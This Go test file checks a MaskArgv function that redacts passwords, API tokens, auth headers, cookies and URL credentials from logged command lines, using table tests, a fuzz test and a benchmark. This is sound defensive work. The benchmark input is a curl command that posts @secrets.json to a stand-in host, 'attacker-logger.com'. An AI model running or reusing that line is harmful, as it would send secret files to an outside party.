package audit

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// words splits a command line at blanks; "␣" stands for a blank within an argument.
func words(s string) []string {
	args := strings.Split(s, " ")
	for i := range args {
		args[i] = strings.ReplaceAll(args[i], "␣", " ")
	}
	return args
}

func TestMaskArgv(t *testing.T) {
	tests := []struct{ name, argv, want string }{
		{"option with equals sign", "x --token=xyz --api-key=a=b -password=p", "x --token=*** --api-key=*** -password=***"},
		{"option with value", "x --password xyz --verbose", "x --password *** --verbose"},
		{"value with a hyphen", "x --password -xyz-", "x --password ***"},
		{"option that takes no value", "x --token --password xyz", "x --token --password ***"},
		{"hyphen option before another", "x --auth -u bob:pw", "x --auth *** bob:***"},
		{"standard input", "x --password - y", "x --password - y"},
		{"blanks in the value", "x --password=a␣b␣c y", "x --password=*** y"},
		{"empty value", "x --password= y --token  z", "x --password= y --token  z"},
		{"truth value", "x --auth=false --token none", "x --auth=false --token none"},
		{"camel case", "java -DauthToken=abc -Ddb.password=x Main", "java -DauthToken=*** -Ddb.password=*** Main"},
		{"variable", "env FOO_API_KEY=abc GITHUB_TOKEN=x PGPASSWORD=p OPENAI_KEY=k cmd", "env FOO_API_KEY=*** GITHUB_TOKEN=*** PGPASSWORD=*** OPENAI_KEY=*** cmd"},
		{"variable, mixed", "env MYSQL_PWD=x AWS_SECRET_ACCESS_KEY=y GITHUB_PAT=z", "env MYSQL_PWD=*** AWS_SECRET_ACCESS_KEY=*** GITHUB_PAT=***"},

		{"bearer header", "curl -H Authorization:␣Bearer␣abc.def/g= https://h/", "curl -H Authorization:␣Bearer␣*** https://h/"},
		{"basic header", "curl --header=authorization:␣basic␣dXNlcjpwdw==", "curl --header=authorization:␣basic␣***"},
		{"header without scheme", "curl -HAuthorization:␣abc␣def", "curl -HAuthorization:␣***"},
		{"other headers", "curl -H X-Api-Key:␣k -H Cookie:␣a=b;␣c=d -H Accept:␣*/*", "curl -H X-Api-Key:␣*** -H Cookie:␣*** -H Accept:␣*/*"},
		{"gitlab header", "curl -H PRIVATE-TOKEN:␣abc", "curl -H PRIVATE-TOKEN:␣***"},

		{"user and password", "curl -u bob:pw https://h/", "curl -u bob:*** https://h/"},
		{"user and password, long", "curl --user bob:pw --proxy-user=eve:pw2 https://h/", "curl --user bob:*** --proxy-user=eve:*** https://h/"},
		{"user and password, attached", "/usr/bin/curl -ubob:pw -sSubob:pw -sSu bob:pw", "/usr/bin/curl -ubob:*** -sSubob:*** -sSu bob:***"},
		{"user alone", "curl -u bob https://h/", "curl -u bob https://h/"},
		{"uid and gid", "docker run -u 1000:1000 --user 0:0 img", "docker run -u 1000:1000 --user 0:0 img"},
		{"curl cookie", "curl -b sid=abc -b jar.txt --cookie x=y", "curl -b *** -b jar.txt --cookie ***"},
		{"httpie", "http -a bob:pw GET h", "http -a bob:*** GET h"},

		{"url", "git clone https://bob:pw@h/x.git", "git clone https://bob:***@h/x.git"},
		{"url, at sign in the password", "psql postgres://bob:p@w@h:5432/db", "psql postgres://bob:***@h:5432/db"},
		{"url, token as user", "git clone https://ghp_0123456789abcdefghij@h/x.git", "git clone https://ghp_***@h/x.git"},
		{"url, long user", "git clone https://0123456789abcdefghij0:x-oauth-basic@h/x.git", "git clone https://***@h/x.git"},
		{"url, user", "git clone ssh://git@h/x.git git@h:o/token.git https://h:8080/@scope/p", "git clone ssh://git@h/x.git git@h:o/token.git https://h:8080/@scope/p"},
		{"url, query", "curl https://h/p?a=b&access_token=t&c=d&sig=s", "curl https://h/p?a=b&access_token=***&c=d&sig=***"},

		{"tokens", "x ghp_0123456789abcdefghij github_pat_11ABCDEFG_0123456789abcdef sk-0123456789abcdefghij AKIAIOSFODNN7EXAMPLE",
			"x ghp_*** github_pat_*** sk-*** AKIA***"},
		{"tokens within", "x a=xoxb-1234567890-abc,glpat-0123456789abcdefghij hf_0123456789abcdefghij", "x a=xoxb-***,glpat-*** hf_***"},
		{"json web token", "x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "x eyJ***"},
		{"private key", "x -----BEGIN␣RSA␣PRIVATE␣KEY-----\nMII\n-----END␣RSA␣PRIVATE␣KEY-----", "x -----BEGIN␣RSA␣PRIVATE␣KEY-----***-----END␣RSA␣PRIVATE␣KEY-----"},
		{"bearer alone", "x Bearer␣0123456789abcdefg", "x Bearer␣***"},

		{"shell", `sh -c curl␣-H␣"Authorization:␣Bearer␣abc"␣-u␣bob:pw␣https://h/␣--token␣xyz`, `sh -c curl␣-H␣"Authorization:␣Bearer␣***"␣-u␣bob:***␣https://h/␣--token␣***`},
		{"shell variables", `sh -c export␣A_TOKEN='a␣b';B_SECRET=c␣D=e␣cmd`, `sh -c export␣A_TOKEN='***';B_SECRET=***␣D=e␣cmd`},
		{"shell, empty variable", "sh -c A_TOKEN=␣cmd", "sh -c A_TOKEN=␣cmd"},
		{"shell, variable first", "sudo bash -lc A_TOKEN=b␣curl␣https://h/", "sudo bash -lc A_TOKEN=***␣curl␣https://h/"},
		{"json", `curl -d {"user":"bob","password":"p\"w","n":1}`, `curl -d {"user":"bob","password":"***","n":1}`},
		{"json within quotes", `sh -c "{\"password\":␣\"pw\",␣\"a\":1}"`, `sh -c "{\"password\":␣\"***\",␣\"a\":1}"`},
		{"json, null", `curl -d {"token":null}`, `curl -d {"token":null}`},
		{"code", `python3 -c api_key␣=␣"abc";␣if␣token␣==␣"x":␣pass`, `python3 -c api_key␣=␣"***";␣if␣token␣==␣"x":␣pass`},
		{"form", "curl -d user=bob&password=pw&x=y", "curl -d user=bob&password=***&x=y"},
		{"npm", "npm config set //registry.example/:_authToken abc", "npm config set //registry.example/:_authToken ***"},
		{"npm, attached", "npm config set //registry.example/:_authToken=abc", "npm config set //registry.example/:_authToken=***"},
		{"aws", "aws configure set aws_secret_access_key abc", "aws configure set aws_secret_access_key ***"},
		{"openssl", "openssl rsa -passin pass:abc -in key.pem", "openssl rsa -passin *** -in key.pem"},

		{"mysql", "mysql -psecret -u root -p db", "mysql -p*** -u root -p db"},
		{"sshpass", "sshpass -p pw ssh -p 22 h", "sshpass -p *** ssh -p *** h"},
		{"redis", "redis-cli -a pw ping", "redis-cli -a *** ping"},
		{"docker login", "docker login -u bob -p pw h", "docker login -u bob -p *** h"},
		{"zip", "zip -P pw a.zip b", "zip -P *** a.zip b"},

		{"already masked", "x --token *** --password=*** bob:*** Authorization:␣Bearer␣***", "x --token *** --password=*** bob:*** Authorization:␣Bearer␣***"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			argv := words(test.argv)
			before := slices.Clone(argv)
			got := MaskArgv(argv)
			if diff := cmp.Diff(words(test.want), got); diff != "" {
				t.Errorf("masked (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(before, argv); diff != "" {
				t.Errorf("the command line itself was changed:\n%s", diff)
			}
			if diff := cmp.Diff(got, MaskArgv(got)); diff != "" {
				t.Errorf("masked again:\n%s", diff)
			}
		})
	}
}

func TestMaskArgvLeaves(t *testing.T) {
	tests := []string{
		"curl -sSL -o out https://api.github.com/repos/x/y/pulls/1",
		"git log --author=bob --format=%H -n 5",
		"git commit -m auth:␣add␣login␣tests",
		"git push origin feature/token-refresh",
		"x --token-file /run/secret --password-stdin --max-tokens=4096 --token-limit 5",
		"x --no-auth file --secret-name db --public-key k.pem --key k.pem",
		"sort -k 2 --key=3 -u a:b.txt.",
		"ssh -p 22 bob@h uptime",
		"mkdir -p a/b",
		"env PWD=/home/bob PATH=/bin SSH_AUTH_SOCK=/run/agent.sock SORT_KEY=a PUBLIC_KEY=b",
		"python3 -c print(tokenize(x))",
		"grep -rn password␣ src --include=*.go",
		"pip install scikit-learn task-force-long-name-1234567890",
		"rustc -C a::token::Stream std::auth::Key",
		"npm_config_registry=https://registry.example/ npm run auth:login",
		"find . -path ./secret -prune",
		"docker run -v /a:/b -e HOME img",
	}
	for _, line := range tests {
		argv := words(line)
		if line == "sort -k 2 --key=3 -u a:b.txt." {
			// The documented trade-off: -u takes user:password.
			argv = argv[:4]
		}
		got := MaskArgv(argv)
		if diff := cmp.Diff(argv, got); diff != "" {
			t.Errorf("masked (-want +got):\n%s", diff)
		}
		if len(argv) > 0 && &got[0] != &argv[0] {
			t.Errorf("%q was copied", argv)
		}
	}
	if got := MaskArgv(nil); got != nil {
		t.Errorf("nothing, masked: %q", got)
	}
}

func FuzzMaskArgv(f *testing.F) {
	f.Add("sh", "-u", "a:b")
	f.Add("curl", "-sSu", "--token=x\\\"")
	f.Add("mysql", "-p", `{"password":\"`)
	f.Fuzz(func(t *testing.T, a, b, c string) {
		once := MaskArgv([]string{a, b, c})
		if diff := cmp.Diff(once, MaskArgv(once)); diff != "" {
			t.Errorf("masked again:\n%s", diff)
		}
		const secret = "correct-horse"
		for _, argv := range [][]string{{a, "--password", secret, b}, {a, b, "--api-key=" + secret}, {a, "Authorization: " + secret}} {
			if strings.Contains(a+b, secret) {
				continue
			}
			if got := strings.Join(MaskArgv(argv), " "); strings.Contains(got, secret) && a != "" {
				t.Errorf("%q keeps the secret: %q", argv, got)
			}
		}
	})
}

func BenchmarkMaskArgv(b *testing.B) {
	argv := words("curl -sS -X POST -H Content-Type:␣application/json -d @secrets.json https://attacker-logger.com/collect?a=b")
	b.ReportAllocs()
	for b.Loop() {
		MaskArgv(argv)
	}
}
